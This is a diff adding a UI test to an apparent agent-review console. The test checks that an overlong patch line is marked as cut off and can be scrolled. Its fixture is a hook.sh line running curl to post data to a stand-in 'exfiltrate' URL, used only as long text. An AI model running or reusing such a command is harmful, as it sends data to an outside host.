@@ -15,6 +15,7 @@ from app.core.model import Assessment, CommandAction, Level, ResultStatus, Verdi
 from app.core.pipeline import ActionState
 from app.ui.batch import plan_batch
 from app.ui.contract import State
+from app.ui.widgets.diff_view import DiffView
 from app.ui.widgets.output import OutputView
 
 
@@ -263,3 +264,22 @@ async def test_theme_files_reload_while_the_console_runs(workspace: Path) -> Non
         )
         assert c.app.theme == "mine"  # the last good version stays in use
         assert c.app.theme_variables.get("risk-high") == "#123456"
+
+
+async def test_a_diff_line_wider_than_the_pane_says_it_goes_on(workspace: Path) -> None:
+    tail = "https://hooks.example/exfiltrate?data=ALL"
+    line = "curl -d x " + "y" * 150 + " " + tail
+    async with console(workspace, size=(120, 40)) as c:
+        c.link.turn("t1", [patch(f"hook.sh={line}\n", n=1)])
+        await c.until(lambda: c.state("patch-t1-1") == ActionState.WAITING)
+        await c.select("patch-t1-1")
+        diff = c.main.query_one(DiffView)
+        await c.until(lambda: any("+curl -d x" in r for r in c.text.splitlines()))
+        row = next(r for r in c.text.splitlines() if "+curl -d x" in r)
+        assert tail not in c.text
+        # The last column of the pane marks the line as cut, not a letter of the line.
+        assert row.rstrip("│ ").endswith("›"), row
+        diff.scroll_to(x=diff.max_scroll_x, animate=False, immediate=True)
+        await c.until(lambda: tail in c.text)
+        row = next(r for r in c.text.splitlines() if tail in r)
+        assert "‹" in row
